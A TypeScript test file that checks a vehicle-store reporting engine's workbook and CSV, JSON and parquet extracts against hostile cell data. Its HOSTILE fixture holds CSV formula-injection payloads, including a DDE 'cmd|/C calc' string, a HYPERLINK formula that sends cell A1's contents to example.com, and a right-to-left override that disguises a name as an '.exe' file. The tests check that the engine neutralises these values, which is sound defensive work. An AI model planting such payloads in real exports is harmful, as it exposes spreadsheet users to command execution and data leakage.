/**
 * Reports of data that try to break a file: formula text, cells past a spreadsheet's limit, control characters, emoji,
 * right-to-left text, no rows and one row. Every kind of workbook and every extract is read back by another library.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { read, utils } from '@e965/xlsx';
import type { EngineContext } from '@engine/engine-context';
import { writeExtract } from '@engine/reporting/extracts/write-extract';
import { layOutWorkbook } from '@engine/reporting/report-worker';
import { writeWorkbook } from '@engine/reporting/write-workbook';
import { reportRequestSchema } from '@shared/contract/reports';
import { EXTRACT_TABLES, REPORT_KINDS } from '@shared/domain/report-kind';
import { asyncBufferFromFile, parquetReadObjects } from 'hyparquet';
import { compressors } from 'hyparquet-compressors';
import JSZip from 'jszip';
import { SaxesParser } from 'saxes';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { engineContext } from '../helpers/engine-context';
import { addHandMadeStore } from '../helpers/hand-made-store';
import { openTestDatabase, type TestDatabase } from '../helpers/test-database';

const HOSTILE = {
  formula: `=HYPERLINK("http://example.com?"&A1,"now")`,
  plus: '+1+cmd|/C calc!A1',
  at: '@SUM(1;2)',
  spaced: '\t=1+1',
  long: 'x'.repeat(40_000),
  emoji: '👩‍🔧 Größe 車 🇺🇸',
  rightToLeft: 'شاحنة ‮txt.exe',
  control: 'bell\u0007 and\u001b[31m escape\u000b',
  xml: '<a href="x">&amp;]]></a>',
  lines: 'first, "quoted"\r\nsecond;third',
} as const;
const LONGEST_CELL = 32_767;
/** As the files say it: without force, without what XML forbids, no longer than a cell may be. */
const EXPECTED: Record<keyof typeof HOSTILE, string> = {
  ...HOSTILE,
  formula: `'${HOSTILE.formula}`,
  plus: `'${HOSTILE.plus}`,
  at: `'${HOSTILE.at}`,
  spaced: `'${HOSTILE.spaced}`,
  long: 'x'.repeat(LONGEST_CELL),
  control: 'bell and[31m escape',
};
const STORES = { EMPTY: 0, ONE: 1, MANY: Object.keys(HOSTILE).length };
const NOW = new Date('2026-07-01T12:00:00Z');

describe('reports of hostile data', () => {
  let test: TestDatabase;
  let context: EngineContext;
  let folder: string;

  beforeAll(async () => {
    test = await openTestDatabase();
    folder = mkdtempSync(path.join(tmpdir(), 'doso-hostile-'));
    context = engineContext(test.database, { ...test, workerDirectory: '' }, () => NOW);
    for (const [code, rows] of Object.entries(STORES)) await addStore(test, code, rows);
  });
  afterAll(async () => {
    await context.jobs.stop();
    await test.dispose();
    rmSync(folder, { recursive: true, force: true });
  });

  const run = async (name: string, work: Parameters<EngineContext['jobs']['start']>[2]) => {
    const job = await context.jobs.start('report', name, work);
    expect(await context.jobs.wait(job.id), name).toMatchObject({ state: 'done' });
  };

  describe.each(Object.entries(STORES))('a store named %s with %i units', (storeCode, rows) => {
    it.each(REPORT_KINDS)('gives a valid workbook: %s', async (kind) => {
      const target = path.join(folder, `${storeCode}-${kind}.xlsx`);
      const request = reportRequestSchema.parse({ storeCode, kind, asOf: '2026-06-30' });
      await run(kind, (handle) =>
        writeWorkbook(context, handle, { ...request, path: target }, layOutWorkbook),
      );
      const bytes = readFileSync(target);
      await assertWellFormed(bytes);
      const book = read(bytes, { cellFormula: true });
      const cells = book.SheetNames.flatMap((name) => Object.values(book.Sheets[name] ?? {})) as Cell[];
      expect(cells.filter(({ f, v }) => f === undefined && startsLikeFormula(v))).toEqual([]);
      if (!book.SheetNames.includes('Stock list')) return;
      const list = utils.sheet_to_json<unknown[]>(book.Sheets['Stock list'] ?? {}, { header: 1 });
      const head = list.find((row) => row[0] === 'Stock #') ?? [];
      const texts = list.map((row) => row[head.indexOf('Stock #')]).filter((text) => isPlanted(text));
      expect(texts.map(shorten).sort()).toEqual(planted(rows).map(shorten).sort());
    });

    it.each(EXTRACT_TABLES)('gives the same rows in every format: %s', async (table) => {
      const save = async (format: string) => {
        const target = path.join(folder, `${storeCode}-${table}.${format}`);
        await run(table, (handle) =>
          writeExtract(context, handle, { storeCode, asOf: '2026-06-30', table, path: target }),
        );
        return target;
      };
      const csv = readCsv(readFileSync(await save('csv'), 'utf8'));
      const json: { rows: Row[] } = JSON.parse(readFileSync(await save('json'), 'utf8'));
      const file = await asyncBufferFromFile(await save('parquet'));
      const parquet = (await parquetReadObjects({ file, compressors })) as Row[];
      expect(json.rows).toHaveLength(csv.length);
      expect(parquet).toHaveLength(csv.length);
      expect(csv.flatMap(Object.values).filter(startsLikeFormula)).toEqual([]);
      if (table !== 'stock') return;
      expect(csv.map((row) => shorten(row['Stock #'])).sort()).toEqual(planted(rows).map(shorten).sort());
      // Formats that no spreadsheet runs keep the text as the store wrote it.
      const raw = Object.values(HOSTILE).slice(0, rows).map(shorten).sort();
      expect(json.rows.map((row) => shorten(row['Stock #'])).sort()).toEqual(raw);
      expect(parquet.map((row) => shorten(row['Stock #'])).sort()).toEqual(raw);
    });
  });
});

type Row = Record<string, unknown>;
type Cell = { f?: string; v?: unknown };

function readCsv(text: string): Row[] {
  const { Sheets, SheetNames } = read(text.replace('\ufeff', ''), { type: 'string', raw: true });
  return utils.sheet_to_json(Sheets[SheetNames[0] ?? ''] ?? {}, { raw: true });
}

/** A plain negative number is no formula. */
function startsLikeFormula(value: unknown): boolean {
  return typeof value === 'string' && /^\s*[=+@-]/.test(value) && !/^-[\d.]+$/.test(value);
}

function planted(rows: number): string[] {
  return Object.values(EXPECTED).slice(0, rows);
}

function isPlanted(text: unknown): boolean {
  return Object.values(EXPECTED).map(shorten).includes(shorten(text));
}

/** XML reads a carriage return as a line feed; a long text is told by its length. */
function shorten(text: unknown): string {
  const plain = String(text).replace(/\r/g, '');
  return plain.length > 100 ? `${plain.length} characters` : plain;
}

async function assertWellFormed(workbook: Uint8Array): Promise<void> {
  const parts = await JSZip.loadAsync(workbook);
  for (const part of Object.values(parts.files).filter(({ name }) => /\.(xml|rels)$/.test(name))) {
    const parser = new SaxesParser();
    parser.on('error', (error) => {
      throw new Error(`${part.name}: ${error.message}`);
    });
    parser.write(await part.async('string')).close();
  }
}

async function addStore(test: TestDatabase, code: string, rows: number): Promise<void> {
  const store = await addHandMadeStore(test.database.db, code);
  for (const [index, text] of Object.values(HOSTILE).slice(0, rows).entries()) {
    const vehicle = { model: `Model ${index}`, trim: text.slice(0, 60) };
    await store.addStay({
      ...vehicle,
      stockNumber: text,
      receivedOn: '2026-01-05',
      costCents: 2_000_001,
    });
    await store.addSale({ ...vehicle, soldOn: '2026-06-01', receivedOn: '2026-05-01', totalGrossCents: -1 });
    await store.addOrder({ ...vehicle });
  }
}
